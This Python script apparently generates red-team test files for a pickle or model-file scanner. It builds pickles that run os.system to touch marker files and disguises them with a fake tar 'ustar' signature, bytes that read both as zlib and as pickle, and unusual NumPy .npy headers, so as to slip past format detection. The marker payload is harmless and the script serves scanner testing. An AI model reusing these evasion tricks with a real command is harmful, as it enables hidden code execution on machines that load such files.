import pickle, struct, os
def payload(name):
    # protocol-0 pickle: os.system('touch /tmp/rt15/pwned_<name>')
    return b"cos\nsystem\n(S'touch /tmp/rt15/pwned_%s'\ntR." % name.encode()

# 1. tar sniff: "ustar" at offset 257 (after STOP) -> routed to tar, bad checksum -> medium
p = payload("tar_sniff")
d = p + b"\0" * (257 - len(p)) + b"ustar" + b"\0" * 300
open("fn_tar_sniff.pkl","wb").write(d)

# 2. zlib sniff: '(' 0x91 = valid zlib header AND MARK,FROZENSET; 'X' = stored deflate block header AND BINUNICODE len 0xffff
p = payload("zlib_sniff")
d = b"(\x91X\xff\xff\x00\x00" + b"A"*65535 + p
open("fn_zlib_sniff.pkl","wb").write(d)

# 3. npy with double-quoted header keys
def npy(header):
    h = header.encode()
    pad = 64 - (10 + len(h) + 1) % 64
    h = h + b" "*pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h
for nm, hdr in [("npy_dq", '{"descr": "|O", "fortran_order": False, "shape": (1,)}'),
                ("npy_object", "{'descr': 'object', 'fortran_order': False, 'shape': (1,)}"),
                ("npy_O8", "{'descr': 'O8', 'fortran_order': False, 'shape': (1,)}"),
                ("npy_struct_dq", "{'descr': [(\"a\", \"O\")], 'fortran_order': False, 'shape': (1,)}"),
                ("npy_spacecolon", "{'descr' : '|O', 'fortran_order': False, 'shape': (1,)}"),
               ]:
    open(f"fn_{nm}.npy","wb").write(npy(hdr) + b"\x80\x02" + payload(nm))
